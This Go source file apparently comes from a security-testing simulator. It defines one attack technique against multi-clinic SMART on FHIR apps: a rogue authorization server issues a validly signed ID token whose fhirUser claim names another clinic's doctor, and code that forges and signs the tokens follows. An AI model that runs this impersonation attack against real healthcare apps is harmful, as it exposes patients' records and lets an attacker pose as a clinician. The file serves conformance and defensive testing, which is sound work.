package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("SM-10", Technique{
	Title: "One clinic's server names another clinic's doctor",
	Story: "An app serves many clinics, and the thief runs the server of one. He opens the app there. His server's ID token is in order, and about himself; but for who he is as a " +
		"resource it names a doctor of the other clinic, at the other clinic's API. An app that goes by that takes him for her.",
	Reads:    []string{"SMART App Launch 2.2, fhirUser", "OIDC Core s5.7"},
	Evidence: "At the app, an ID token of one issuer whose fhirUser is at another's API.",
	Needs:    []event.Vantage{event.RogueAS, event.APILog}, Scene: Scene{AppThere: true},
	Beyond: "FAPI 2.0 and OpenID Connect say how an ID token is checked, and this one is in order. fhirUser is SMART's, which does not say that it must be at the API in question. An app " +
		"that looks stops this.",
	Run: func(ctx context.Context, g Ground) error {
		doctor, err := victimsSubject(g)
		if err != nil {
			return err
		}
		ro := newRogue(g)
		var failed error
		ro.token = func(url.Values) fapi.TokenResponse {
			t, err := ro.namesDoctor(doctor)
			if err != nil {
				failed = err
			}
			return t
		}
		ro.open()
		if _, err := g.Browser().Visit(ctx, g.Target().AppLaunch+url.QueryEscape(ro.meta.Issuer+"/fhir"), ""); err != nil {
			return err
		}
		return failed
	},
})

// namesDoctor is an answer about the thief, in order but for who he is as a resource.
func (ro *rogue) namesDoctor(doctor string) (t fapi.TokenResponse, err error) {
	target, key := ro.g.Target(), ro.g.Key("rogue")
	id := ro.idTokenClaims(ro.meta.Issuer, "myself", target.AppID)
	id.FHIRUser = target.FHIRBase + "/Practitioner/" + doctor
	id.Nonce = ro.lastNonce()
	t = fapi.TokenResponse{TokenType: tokenTypeSeen(ro.g), ExpiresIn: 300, Launch: &fapi.Launch{Patient: target.OwnPatient}}
	if t.IDToken, err = id.Sign(key); err != nil {
		return t, err
	}
	t.AccessToken, err = fapi.AccessToken{Issuer: ro.meta.Issuer, Subject: "myself", ClientID: target.AppID, Expires: ro.g.Now().Add(hour).Unix()}.Sign(key)
	return t, err
}
